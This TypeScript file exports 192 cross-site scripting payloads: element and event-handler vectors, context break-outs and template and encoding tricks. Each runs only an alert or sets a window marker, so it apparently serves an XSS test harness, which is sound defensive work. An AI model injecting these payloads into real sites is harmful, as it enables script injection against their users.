/** XSS payloads. Any that runs leaves a trace: a dialog, or `petikXss` on the window. */
const RUN = 'window.petikXss=1;alert(1)'
const SHORT = 'alert(1)'

const ELEMENTS = [
  `<script>${SHORT}</script>`,
  `<ScRiPt>${SHORT}</sCrIpT>`,
  `<img src=x onerror=${SHORT}>`,
  `<img/src/onerror=${SHORT}>`,
  `<svg onload=${SHORT}>`,
  `<svg/onload=${SHORT}>`,
  `<body onload=${SHORT}>`,
  `<a href=javascript:${SHORT}>x</a>`,
  `<a href=" javascript:${SHORT}">x</a>`,
  `<iframe src=javascript:${SHORT}>`,
  `<object data=javascript:${SHORT}>`,
  `<embed src=javascript:${SHORT}>`,
  `<input autofocus onfocus=${SHORT}>`,
  `<select autofocus onfocus=${SHORT}>`,
  `<video><source onerror=${SHORT}>`,
  `<audio src=x onerror=${SHORT}>`,
  `<details open ontoggle=${SHORT}>`,
  `<marquee onstart=${SHORT}>`,
  `<math><mi xlink:href=javascript:${SHORT}>`,
  `<form><button formaction=javascript:${SHORT}>x`,
  `<isindex action=javascript:${SHORT}>`,
  `<style>@import'javascript:${SHORT}'</style>`,
  `<link rel=stylesheet href=javascript:${SHORT}>`,
  `<meta http-equiv=refresh content=0;javascript:${SHORT}>`,
  `<base href=javascript:${SHORT}//>`,
  `<template><script>${SHORT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${SHORT}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${SHORT}>">`,
  `<!--><img src=x onerror=${SHORT}>-->`,
  `<![CDATA[><script>${SHORT}</script>]]>`,
]
/** Ways to break out of a context: an attribute, a script, a comment, a title. */
const WAYS_OUT = ['', '">', "'>", '</script>', '-->', '</title>']
const STATES = [
  `</script><script>${RUN}</script>`,
  `\u2028${RUN}//`,
  `\u2029${RUN}//`,
  `"};${RUN};//`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `<!--<script>${RUN}</script>`,
]

/** 192 of them. */
export const PAYLOADS: readonly string[] = [
  ...WAYS_OUT.flatMap((way) => ELEMENTS.map((element) => way + element)),
  ...STATES,
]
